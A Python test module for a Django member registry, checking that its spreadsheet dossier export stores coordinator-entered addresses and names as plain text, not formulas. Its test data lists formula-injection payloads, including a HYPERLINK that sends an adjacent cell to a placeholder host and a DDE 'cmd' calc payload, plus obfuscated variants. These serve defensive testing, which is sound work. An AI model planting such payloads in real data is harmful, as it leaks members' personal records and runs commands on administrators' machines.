"""The dossier writes what coordinators typed as text, never as a formula (issue 10, finding 6).

The adversary: a group coordinator imports a member whose address is a formula that sends
the cell next to it (another member's data) to the coordinator's server when the national
admin opens the dossier. The file is read back the ways an officer's machine would read it.
"""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from kenes.registry.dossier import export_dossier
from kenes.registry.importing import do_import_members
from kenes.registry.models import Member
from kenes.registry.services import do_update_member
from tests.conftest import HEADER, csv_bytes, person

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://x/?"&A1)'
PLANTED = [
    LEAK,
    '+HYPERLINK("http://x/?"&B2,"click")',
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("http://x/")',  # full-width equals sign
    "\u200b=1+1",  # zero-width space first
]


def _import_with_addresses(group, addresses):
    rows = []
    for n, address in enumerate(addresses, start=1):
        row = person(n)
        row[5] = address
        rows.append(row)
    do_import_members(
        io.BytesIO(csv_bytes(rows, HEADER)), filename="x.csv", group=group, acting_user="test"
    )


def _cells_in_xml(content: bytes) -> tuple[list[str], list[str]]:
    """(formula elements, sheet XML) of every worksheet, read as raw XML."""
    formulas: list[str] = []
    sheets: list[str] = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                sheets.append(xml)
                formulas += re.findall(r"<f[ >].*?</f>|<f/>", xml)
    return formulas, sheets


def test_planted_formulas_are_text_in_the_dossier(groups, officers):
    _import_with_addresses(groups["workers"], PLANTED)
    member = Member.objects.order_by("pk").first()
    do_update_member(member, {"full_name": LEAK}, acting_user=officers["admin"])

    content = export_dossier(acting_user=officers["admin"], rule_id="kz-2022")

    formulas, _sheets = _cells_in_xml(content)
    assert formulas == []

    book = load_workbook(io.BytesIO(content))  # not read-only: cell types are kept
    cells = [c for ws in book.worksheets for row in ws.iter_rows(min_row=2) for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for planted in PLANTED:
        assert planted.strip() in texts  # the import trims the address; nothing else changed
    assert LEAK in {c.value for c in cells if c.column == 2}  # the name, unchanged
    quoted = [c for c in cells if c.value == LEAK]
    assert quoted and all(c.quotePrefix for c in quoted)

    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content))
    values = {
        value
        for name in calamine.sheet_names
        for row in calamine.get_sheet_by_name(name).to_python()
        for value in row
    }
    assert LEAK in values
    assert '\uff1dHYPERLINK("http://x/")' in values


def test_plain_text_and_numbers_keep_their_types(groups, officers):
    _import_with_addresses(groups["workers"], ["г. Алматы, ул. Абая, 1"])
    content = export_dossier(acting_user=officers["admin"], rule_id="kz-2022")
    book = load_workbook(io.BytesIO(content))
    row = next(
        r for ws in book.worksheets for r in ws.iter_rows(min_row=2, values_only=True) if r[0]
    )
    assert row[0] == 1 and row[4] == "г. Алматы, ул. Абая, 1"
    assert row[5] == "+77010010100"  # the phone as stored, no apostrophe
